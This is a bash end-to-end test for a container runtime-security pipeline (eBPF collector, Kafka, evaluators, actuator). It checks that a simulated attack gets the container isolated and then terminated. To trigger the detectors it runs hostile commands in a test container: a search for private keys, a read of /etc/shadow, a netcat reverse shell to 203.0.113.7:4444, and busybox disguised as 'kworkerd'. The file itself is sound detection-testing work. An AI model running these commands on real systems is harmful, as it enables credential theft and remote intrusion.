#!/usr/bin/env bash
# The whole distributed pipeline through a real broker: rampart-collector
# (eBPF) -> rampart.events -> two rampart-evaluator instances (one consumer
# group, transactions) -> rampart.verdicts -> rampart-actuator (local driver)
# -> rampart.actions, against an attack in a runc container. Asserts:
#   - every expected rule fired, and no event has two verdicts (read_committed);
#   - the reverse shell's container was isolated and then, on drift,
#     terminated, and rampart.actions holds both outcomes;
#   - the collector's sequence numbers have no gap;
#   - /metrics of all four daemons agree with what the topics hold;
#   - replaying the window from Kafka gives the same verdicts and acts on
#     nothing (the actions topic is unchanged).
#   with-kafka test_e2e_kafka.sh COLLECTOR EVALUATOR ACTUATOR RAMPART EVENTS_DUMP
#                                EVALUATOR_CHECK EVALUATOR_FEED ACTUATOR_FEED
set -euo pipefail
collector=${1:?usage: see the header}; evaluator=${2:?}; actuator=${3:?}; rampart=${4:?}
dump=${5:?}; check=${6:?}; topics_tool=${7:?}; feed=${8:?}
brokers=${RAMPART_TEST_BROKERS:?run under tests/integration/with-kafka}
root=$(cd "$(dirname "$0")/../.." && pwd)
. "$root/tests/integration/collector_test_lib.sh"
collector_test_init e2e
command -v kcat >/dev/null && command -v curl >/dev/null || { echo "SKIP: needs kcat and curl"; exit 77; }
declare -A pids=()
stop_all() {
	local n
	for n in "${!pids[@]}"; do kill -TERM "${pids[$n]}" 2>/dev/null || true; done
	for n in "${!pids[@]}"; do wait "${pids[$n]}" 2>/dev/null || true; done
	pids=()
	collector_test_cleanup
}
trap stop_all EXIT

say() { printf 'e2e: %s\n' "$*"; }
fail() {
	printf 'e2e: FAIL: %s\n' "$*" >&2
	for f in "$work"/*.log; do echo "--- $f" >&2; tail -n 15 "$f" >&2; done
	exit 1
}

sfx=$$-$(date +%s%N)
events=events-$sfx verdicts=verdicts-$sfx actions=actions-$sfx
edlq=events-dlq-$sfx vdlq=verdicts-dlq-$sfx
for t in "$events:3" "$verdicts:3" "$actions:3" "$edlq:1" "$vdlq:1"; do
	"$topics_tool" create "$brokers" "${t%:*}" "${t#*:}"
done

common="kafka:
  bootstrap.servers: $brokers
  session.timeout.ms: 6000
  heartbeat.interval.ms: 1000
  log_level: 3"
cat >"$work/collector.yaml" <<EOC
node: e2e-node
cluster: local
$common
collector:
  topic: $events
  state_dirs: $RAMPART_STATE_DIR
  metrics_addr: 127.0.0.1:0
EOC
for i in a b; do cat >"$work/evaluator-$i.yaml" <<EOC
node: e2e-node
$common
  transaction.timeout.ms: 10000
evaluator:
  rules: [$root/rules]
  events_topic: $events
  verdicts_topic: $verdicts
  dlq_topic: $edlq
  group: e2e-evaluators-$sfx
  instance_id: $i
  batch_ms: 50
  metrics_addr: 127.0.0.1:0
EOC
done
cat >"$work/actuator.yaml" <<EOC
node: e2e-node
$common
actuator:
  rules: [$root/rules]
  verdicts_topic: $verdicts
  actions_topic: $actions
  dlq_topic: $vdlq
  group: e2e-actuator-$sfx
  kubernetes.enabled: false
  ecs.enabled: false
  local:
    enabled: true
    state_dir: $work/isolated
  metrics_addr: 127.0.0.1:0
EOC

start() { # NAME BINARY: log $work/NAME.log
	"$2" --config "$work/$1.yaml" 2>"$work/$1.log" & pids[$1]=$!
}
port_of() { sed -n 's/.*"msg":"metrics endpoint".*"port":\([0-9]*\).*/\1/p; s/.*metrics on .* (port \([0-9]*\)).*/\1/p' "$work/$1.log" | head -n 1; }
metric() { # NAME METRIC: its value ("" when absent)
	curl -sf "http://127.0.0.1:$(port_of "$1")/metrics" | awk -v m="$2" '$1 == m {print $2}'
}
wait_for() { # SECONDS DESCRIPTION COMMAND...
	local s=$1 what=$2; shift 2
	for _ in $(seq 1 $((s * 10))); do "$@" && return 0; sleep 0.1; done
	fail "$what (after $s s)"
}

start evaluator-a "$evaluator"; start evaluator-b "$evaluator"; start actuator "$actuator"
wait_for 60 "evaluators and actuator ready" \
	eval '[ -n "$(port_of evaluator-a)" ] && [ -n "$(port_of evaluator-b)" ] && [ -n "$(port_of actuator)" ] &&
	      curl -sf "http://127.0.0.1:$(port_of actuator)/readyz" >/dev/null'
start collector "$collector"
wait_for 20 "collector capturing" grep -q capturing "$work/collector.log"
t0=$(date -u +%Y-%m-%dT%H:%M:%S.%NZ)

id=$("$harness" start web --pod-name web-5f7d-e2e --namespace shop --container-name web --image shop/web:1.0 -- sleep 3600)
init=$("$harness" pid web)
c() { "$harness" exec web -- "$@" >/dev/null 2>&1 || true; sleep 0.3; }
c find / -xdev -name id_rsa
c cat /etc/shadow
c nc -w 1 -e /bin/sh 203.0.113.7 4444
wait_for 30 "the container isolated" eval "grep -q '\"outcome\":\"done\".*' '$work/actuator.log' && ls '$work/isolated/$id' >/dev/null 2>&1"
c sh -c 'cp /bin/busybox /tmp/kworkerd && /tmp/kworkerd sleep 30'
alive() {
	local f; f=$(sed 's/.*) //' "/proc/$1/stat" 2>/dev/null) || return 1
	set -- $f # state ppid pgrp session tty tpgid flags: PF_EXITING 0x4 = dying
	[ "$1" != Z ] && [ $(($7 & 4)) = 0 ]
}
wait_for 30 "the container terminated" eval '! alive "$init"'
say "ok   container isolated (reverse shell), then terminated (drift)"
sleep 1
kill -INT "${pids[collector]}"; wait "${pids[collector]}" || fail "collector exit status"; unset 'pids[collector]'
t1=$(date -u +%Y-%m-%dT%H:%M:%S.%NZ)

# Events: gap-free, and all consumed by the evaluators.
"$dump" kafka "$brokers" "$events" 10 >"$work/events.jsonl"
nev=$(wc -l <"$work/events.jsonl")
jq -r 'select(.node == "e2e-node") | .sequence' "$work/events.jsonl" | sort -n >"$work/seq.txt"
first=$(head -n 1 "$work/seq.txt"); last=$(tail -n 1 "$work/seq.txt")
[ "$nev" -gt 0 ] && [ $((last - first + 1)) = "$nev" ] && [ -z "$(uniq -d "$work/seq.txt")" ] ||
	fail "sequence gaps: $nev events, sequences $first..$last"
say "ok   $nev events, sequences $first..$last without a gap"

# Verdicts: expected rules, one verdict per event at most.
"$check" "$brokers" "$verdicts" "$edlq" 5 60 >"$work/verdicts.txt" || fail "fewer than 5 verdicts"
nv=$(grep -c '^V ' "$work/verdicts.txt")
[ -z "$(awk '/^V / {print $2}' "$work/verdicts.txt" | sort | uniq -d)" ] || fail "an event has two verdicts"
for r in RP2404 RP1002 RP1006 RP1003; do
	grep -q "^V .*\b$r\b" "$work/verdicts.txt" || fail "no verdict of $r"
done
! grep -q '^D ' "$work/verdicts.txt" || fail "events on the DLQ"
say "ok   $nv verdicts (RP2404 RP1002 RP1006 RP1003 among them), each event at most once"

# Actions: every verdict has one outcome; isolate and terminate done.
wait_for 30 "an outcome per verdict" eval '[ "$("$feed" actions "$brokers" "$actions" | wc -l)" -ge "$nv" ]'
"$feed" actions "$brokers" "$actions" >"$work/actions.txt"
[ "$(wc -l <"$work/actions.txt")" = "$nv" ] || fail "$nv verdicts but $(wc -l <"$work/actions.txt") outcomes"
grep -q " isolate done 1 $id" "$work/actions.txt" || fail "no isolate outcome: $(cat "$work/actions.txt")"
grep -q " terminate done 1 $id" "$work/actions.txt" || fail "no terminate outcome: $(cat "$work/actions.txt")"
say "ok   rampart.actions: one outcome per verdict, isolate done, terminate done"

# Metrics agree with the topics.
published=$(sed -n 's/.*published=\([0-9]*\).*/\1/p' "$work/collector.log" | tail -n 1)
[ "$published" = "$nev" ] || fail "collector published $published, topic holds $nev"
ea=$(metric evaluator-a rampart_evaluator_events_total); eb=$(metric evaluator-b rampart_evaluator_events_total)
va=$(metric evaluator-a rampart_evaluator_verdicts_total); vb=$(metric evaluator-b rampart_evaluator_verdicts_total)
wait_for 10 "evaluator metrics caught up" eval '[ $(($(metric evaluator-a rampart_evaluator_events_total) + $(metric evaluator-b rampart_evaluator_events_total))) = "$nev" ]'
ea=$(metric evaluator-a rampart_evaluator_events_total); eb=$(metric evaluator-b rampart_evaluator_events_total)
va=$(metric evaluator-a rampart_evaluator_verdicts_total); vb=$(metric evaluator-b rampart_evaluator_verdicts_total)
[ $((va + vb)) = "$nv" ] || fail "evaluators report $va+$vb verdicts, topic holds $nv"
[ "$(metric actuator rampart_actuator_verdicts_total)" = "$nv" ] || fail "actuator verdicts_total"
[ "$(metric actuator 'rampart_actuator_actions_total{action="terminate",outcome="done"}')" = 1 ] ||
	fail "actuator terminate/done"
say "ok   metrics: collector $published published; evaluators $ea+$eb events, $va+$vb verdicts; actuator $nv"

# Replay the window from Kafka: the same verdicts, no new action.
"$rampart" replay --brokers "$brokers" --topic "$events" --from "$t0" --to "$t1" --json \
	>"$work/replay.jsonl" 2>"$work/replay.log" || fail "replay failed"
jq -r '.event.sequence as $s | .rules[].id | "\($s) \(.)"' "$work/replay.jsonl" | sort >"$work/replayed.txt"
awk '/^V / {n = split($4, r, ","); for (i = 1; i <= n; i++) print $2, r[i]}' "$work/verdicts.txt" | sort >"$work/live.txt"
diff -u "$work/live.txt" "$work/replayed.txt" >&2 || fail "replay differs from the live verdicts"
sleep 2
[ "$("$feed" actions "$brokers" "$actions" | wc -l)" = "$nv" ] || fail "the replay caused actions"
say "ok   replay of the window: the same $nv verdicts, no new action"
